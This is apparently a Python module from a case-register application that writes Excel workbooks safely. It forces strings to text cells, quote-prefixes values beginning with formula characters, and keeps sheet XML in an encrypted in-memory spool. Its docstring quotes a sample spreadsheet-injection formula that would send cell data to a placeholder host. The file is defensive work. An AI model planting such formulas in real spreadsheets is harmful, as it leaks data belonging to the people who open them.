"""Cells of the workbooks we write: text stays text; and sheets that never wait in clear on disk.

openpyxl takes a string that starts with ``=`` for a formula; a reporter's name such as
``=HYPERLINK("http://x/?"&T4,"点击")`` sent through the public form would be a live formula in the case register.
Every string is written here as a string cell (``t="inlineStr"``), and one that starts with a character a
spreadsheet reads as the start of a formula or a command (``= + - @``, tab, CR, LF) also carries Excel's quote
prefix, so that it stays text when someone edits the cell. Numbers, dates and empty cells pass unchanged.

A write-only sheet made by ``sealed_sheet`` keeps its XML in an ``EphemeralSpool`` (AES-CTR under a key held only
in memory) instead of openpyxl's named temporary file, and ``sealed_workbook_chunks`` assembles the workbook into
another spool and yields it in chunks: memory stays flat however many rows there are, and no row is ever on disk
in clear. This leans on openpyxl 3.1's write-only internals (``WorksheetWriter(out=...)``,
``ExcelWriter.write_worksheet``), pinned in requirements.txt.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterable, Iterator
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.worksheet._writer import WorksheetWriter
from openpyxl.writer.excel import ExcelWriter

from app.core.spool import EphemeralSpool

RISKY_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def text_cell(ws: Any, value: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    if value.startswith(RISKY_START):
        cell.quotePrefix = True
    return cell


def row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """``values`` as one row for ``ws.append``: every string a text cell, anything else as it is (a cell made by the
    caller, with its font, included)."""
    return [text_cell(ws, value) if isinstance(value, str) else value for value in values]


CHUNK_BYTES = 64 * 1024
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class _SealedWorkbookWriter(ExcelWriter):  # type: ignore[misc]
    """openpyxl's writer, but a write-only sheet's XML comes out of its encrypted spool, not a named file."""

    def write_worksheet(self, ws: Any) -> None:
        writer = ws._writer
        if writer is None or not isinstance(writer.out, EphemeralSpool):
            super().write_worksheet(ws)
            return
        from openpyxl.drawing.spreadsheet_drawing import SpreadsheetDrawing

        ws._drawing = SpreadsheetDrawing()
        ws._drawing.charts = ws._charts
        ws._drawing.images = ws._images
        if not ws.closed:
            ws.close()
        ws._rels = writer._rels
        writer.out.seek(0)
        with self._archive.open(ws.path[1:], "w", force_zip64=True) as target:
            shutil.copyfileobj(writer.out, target, CHUNK_BYTES)
        writer.out.close()
        self.manifest.append(ws)


def header(ws: Any, values: Iterable[str]) -> list[WriteOnlyCell]:
    """A bold header row of a write-only sheet (our own column names: plain cells)."""
    bold = Font(bold=True)
    cells = []
    for value in values:
        cell = WriteOnlyCell(ws, value=value)
        cell.font = bold
        cells.append(cell)
    return cells


def sealed_sheet(wb: Workbook, title: str) -> Any:
    """A sheet of the write-only workbook ``wb`` whose rows wait in an encrypted spool."""
    ws = wb.create_sheet(title)
    ws._writer = WorksheetWriter(ws, out=EphemeralSpool())
    return ws


def sealed_workbook_chunks(wb: Workbook) -> Iterator[bytes]:
    """The finished workbook's bytes, assembled in an encrypted spool, in chunks."""
    packed = EphemeralSpool()
    try:
        with ZipFile(packed, "w", ZIP_DEFLATED, allowZip64=True) as archive:
            _SealedWorkbookWriter(wb, archive).save()
        packed.seek(0)
        while chunk := packed.read(CHUNK_BYTES):
            yield chunk
    finally:
        packed.close()
